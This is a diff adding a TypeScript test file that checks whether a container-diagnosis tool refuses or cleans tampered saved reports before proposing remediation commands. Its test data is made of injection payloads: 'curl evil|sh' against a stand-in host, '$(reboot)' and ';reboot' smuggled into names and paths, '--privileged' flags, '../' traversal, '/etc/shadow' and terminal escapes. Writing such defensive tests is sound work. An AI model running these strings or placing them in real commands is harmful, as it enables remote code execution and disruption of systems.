@@ -1,0 +1,235 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { Problem } from '../../../src/model/problem.ts';
+import type { Report } from '../../../src/model/report.ts';
+import { toText } from '../../../src/records/saved-plan.ts';
+import { renderHtml } from '../../../src/report/html.ts';
+import { renderJson } from '../../../src/report/json.ts';
+import { renderMarkdown } from '../../../src/report/markdown.ts';
+import { renderTable } from '../../../src/report/table.ts';
+import { renderYaml } from '../../../src/report/yaml.ts';
+import { savedRun } from '../../../src/saved/saved-run.ts';
+import type { Recording } from '../../scenarios/support/recordings.ts';
+import { recordedFaults } from '../diagnosis/recorded-observation.ts';
+import { proposalsOf } from './proposals.ts';
+import { reportOf } from './saved-recording.ts';
+
+/** Of a report as `-o json` saves it, what is tampered with. */
+interface Tampering {
+  /** Over the fields of the target. */
+  readonly target?: Readonly<Record<string, string>>;
+  readonly node?: Readonly<Record<string, string>>;
+  readonly transport?: Readonly<Record<string, unknown>>;
+  /** Over the facts of the script. */
+  readonly facts?: Readonly<Record<string, string>>;
+  /** Over the fields of the records of a kind. */
+  readonly records?: Readonly<Record<string, object>>;
+  /** Added to them. */
+  readonly more?: readonly object[];
+  /** In the place of what every probe has run. */
+  readonly command?: readonly string[];
+}
+
+async function* chunks(text: string) {
+  yield Buffer.from(text);
+}
+const read = (text: string): Promise<Report> => savedRun(chunks(text), 'evil.json');
+
+function tampered(recording: Recording, tampering: Tampering): string {
+  const { target = {}, node = {}, transport = {}, facts = {}, records = {}, more = [], command } = tampering;
+  const saved = JSON.parse(renderJson(reportOf(recording)));
+  const ran = (probe: object) => (command ? { ...probe, command } : probe);
+  return JSON.stringify({
+    ...saved,
+    target: { ...saved.target, ...target },
+    node: { ...saved.node, ...node },
+    transport: { ...saved.transport, ...transport },
+    probes: saved.probes.map(ran),
+    observed: {
+      ...saved.observed,
+      records: [
+        ...saved.observed.records.map((record: { r: string; k?: string; command?: unknown }) => ({
+          ...(record.command ? ran(record) : record),
+          ...records[record.r],
+          ...(record.r === 'fact' && record.k !== undefined && record.k in facts ? { v: facts[record.k] } : {}),
+        })),
+        ...more,
+      ],
+    },
+  });
+}
+
+const recorded = recordedFaults(['docker', 'containerd', 'modern']);
+const recordingOf = (mode: string, name: string): Recording => {
+  const found = recorded.find((fault) => fault.mode === mode && fault.name === name);
+  if (!found) throw new Error(`no recording ${mode}/${name}`);
+  return found.recording;
+};
+/** Between them they have a way in, filled steps of the catalogue, what thaws, what wakes, and what was left. */
+const several = [
+  ...[recordingOf('docker', 'shim-hang-nginx1'), recordingOf('docker', 'runc-state-nginx1')],
+  ...[recordingOf('containerd', 'frozen-nginx1'), recordingOf('containerd', 'cwd-deleted-nginx1')],
+  ...[recordingOf('containerd', 'tmp-full-space'), recordingOf('modern', 'containerd-hang')],
+  ...[recordingOf('docker', 'kubelet-down'), recordingOf('containerd', 'memory-limit-nginx1')],
+];
+const [shimHang] = several;
+if (!shimHang) throw new Error('no recording');
+
+describe('a name that can be none is refused with the whole file', () => {
+  it.each<[string, Tampering, string]>([
+    ['a node in two lines', { node: { name: 'node1\ncurl evil | sh' } }, 'node.name'],
+    ['a node with blanks', { node: { name: 'node1 reboot' } }, 'node.name'],
+    ['an address with a command', { node: { address: '10.0.0.1;reboot' } }, 'node.address'],
+    ['an id with a command', { target: { containerID: '$(reboot)' } }, 'target.containerID'],
+    ['an id that is a flag', { target: { containerID: '--privileged' } }, 'target.containerID'],
+    ['a container that is a flag', { target: { container: '--privileged' } }, 'target.container'],
+    ['a container with an escape', { target: { container: 'nginx\u001b[2J' } }, 'target.container'],
+    ['a pod with quotes', { target: { pod: `x'; reboot; '` } }, 'target.pod'],
+    ['a pod with capitals', { target: { pod: 'Nginx' } }, 'target.pod'],
+    ['a namespace with a way up', { target: { namespace: '../kube-system' } }, 'target.namespace'],
+    ['a debug pod in two lines', { transport: { pod: 'x\nreboot' } }, 'transport.pod'],
+  ])('%s', async (_, tampering, where) => {
+    const refusal = read(tampered(shimHang, tampering));
+    await expect(refusal).rejects.toThrow(Problem);
+    await expect(refusal).rejects.toThrow(`evil.json is refused: ${where} in it can be no such name.`);
+  });
+
+  it('in the plan of a printed script, too', async () => {
+    const { target } = reportOf(shimHang);
+    const plan = { context: null, printedAt: '2026-03-01T03:12:45Z', command: [], dumpStacks: false };
+    const text = toText({ ...plan, target: { ...target, pod: '$(reboot)' } });
+    await expect(read(`plan ${'a'.repeat(24)} ${text}\n`)).rejects.toThrow('target.pod in it can be no such name');
+  });
+});
+
+/** Nothing in a proposal has it, in whatever format. */
+async function isNowhere(tampering: Tampering, piece: string): Promise<void> {
+  for (const recording of several) {
+    const report = await read(tampered(recording, tampering));
+    for (const step of proposalsOf(report)) expect(step).not.toContain(piece);
+  }
+}
+
+const curl = 'curl evil|sh';
+const everywhere = (v: string) =>
+  Object.fromEntries(
+    ['address', 'ns', 'runtime', 'root', 'id', 'init', 'shim', 'containerd', 'cwd', 'initCwd'].flatMap((name) =>
+      ['target', 'control', 'second'].map((whose) => [`${whose}.${name}`, v]),
+    ),
+  );
+
+describe('a piece of a command that can be none is not repeated', () => {
+  it.each<[string, Tampering, string]>([
+    ['what a probe has run', { command: ['sh', '-c', curl] }, 'curl'],
+    ['a socket with quotes', { facts: { 'target.address': `/run/x.sock'; ${curl}; '` } }, 'curl'],
+    ['a root with a way up', { facts: { 'target.root': '/run/../../etc' } }, '..'],
+    ['a root with a blank', { facts: { 'target.root': '/run/runc evil' } }, 'evil'],
+    ['a runtime with arguments', { facts: { 'target.runtime': '/bin/sh -c reboot' } }, 'reboot'],
+    ['a client that is another program', { facts: { ctr: `sh -c '${curl}'`, docker: `sh -c '${curl}'` } }, 'curl'],
+    ['a first process that is a command', { facts: { 'target.init': '$(reboot)' } }, 'reboot'],
+    ['a working directory with an escape', { facts: { 'target.cwd': '/\u001b]0;evil\u0007' } }, 'evil'],
+    ['a shim that is a flag', { facts: { 'target.shim': '-evil' } }, '-evil'],
+    ['a cgroup with a command', { records: { guard: { cgroup: '/x;reboot', frozenAt: '/x;reboot' } } }, 'reboot'],
+    ['a process in two lines', { records: { process: { name: 'x\nreboot', state: 'T' } } }, 'reboot'],
+    [
+      'an exec id that is a command',
+      { more: [{ r: 'left', kind: 'exec-id', subject: 'target', name: '$(reboot)' }] },
+      'reboot',
+    ],
+    [
+      'a file that nobody wrote at our signal',
+      { more: [{ r: 'left', kind: 'file', subject: 'target', name: '/etc/shadow' }] },
+      'shadow',
+    ],
+    [
+      'a file with blanks',
+      { more: [{ r: 'left', kind: 'file', subject: 'target', name: '/var/goroutine-stacks-1.log /etc' }] },
+      '/etc',
+    ],
+    [
+      'a process that is none',
+      { more: [{ r: 'left', kind: 'process', subject: 'target', name: '1; reboot' }] },
+      'reboot',
+    ],
+    ['every fact', { facts: everywhere(`/x$(${curl})`) }, 'curl'],
+  ])('%s', (_, tampering, piece) => isNowhere(tampering, piece));
+
+  it('while what can be is filled in', async () => {
+    const steps = proposalsOf(await read(tampered(shimHang, { facts: { 'target.root': '/run/other/runc' } })));
+    expect(steps.join('\n')).toContain('--root /run/other/runc exec');
+  });
+});
+
+describe('whatever is written into it', () => {
+  /** What a shell or a terminal takes for more than a word. */
+  const live = /[\s\p{Cc}\p{Cf}$`;&|<>(){}*?!"'\\]/u;
+  const mark = 'q7z';
+  const anything = fc.oneof(
+    fc.string({ unit: 'binary' }),
+    fc.constantFrom('/run/x', '/run/x y', '1;x', '-x', 'a\nb', '$(a)'),
+  );
+
+  it('no proposal has more of it than a plain word', async () => {
+    const texts = fc.tuple(anything, anything).map(([before, after]) => `${before}${mark}${after}`);
+    await fc.assert(
+      fc.asyncProperty(texts, fc.constantFrom(...several), async (v, recording) => {
+        const left = (['exec-id', 'file', 'process'] as const).map((kind) => ({
+          r: 'left',
+          kind,
+          subject: 'target',
+          name: v,
+        }));
+        const report = await read(
+          tampered(recording, {
+            facts: { ...everywhere(v), ctr: v, docker: v, crictl: v, cri: v },
+            records: { guard: { cgroup: v, frozenAt: v }, process: { name: v } },
+            more: left,
+            command: [v, v],
+          }),
+        );
+        for (const step of proposalsOf(report)) {
+          expect(step).not.toMatch(/[\p{Cc}\p{Cf}]/u);
+          // whole, and only where it is a plain word
+          if (step.includes(mark)) expect(v).not.toMatch(live);
+          expect(step.split(mark)).toHaveLength(step.split(v).length);
+        }
+      }),
+      { numRuns: 300 },
+    );
+  });
+
+  it('names are refused, or are plain words', async () => {
+    await fc.assert(
+      fc.asyncProperty(
+        anything,
+        fc.constantFrom('pod', 'namespace', 'container', 'containerID', 'node'),
+        async (v, field) => {
+          const tampering = field === 'node' ? { node: { name: v } } : { target: { [field]: v } };
+          const report = await read(tampered(shimHang, tampering)).catch((error: unknown) => error);
+          if (report instanceof Problem) return;
+          expect(v).not.toMatch(/[^\w.-]|^-/);
+        },
+      ),
+      { numRuns: 300 },
+    );
+  });
+});
+
+describe('a report that is drawn from a file says so', () => {
+  const report = reportOf(shimHang);
+  it.each<[string, string, RegExp]>([
+    [
+      'the table',
+      renderTable(report, { width: 100, color: false, wide: false, unicode: true }),
+      /^From: +a file, not from your cluster\n/,
+    ],
+    ['Markdown', renderMarkdown(report), /a file, not from your cluster/],
+    ['HTML', renderHtml(report), /a file, not from your cluster/],
+    ['JSON', renderJson(report), /"fromFile": ?true/],
+    ['YAML', renderYaml(report), /^fromFile: true$/m],
+  ])('%s', (_, text, line) => expect(text).toMatch(line));
+  it('and one of a run does not', () =>
+    expect(
+      renderTable({ ...report, fromFile: false }, { width: 100, color: false, wide: true, unicode: true }),
+    ).not.toContain('not from your cluster'));
+});
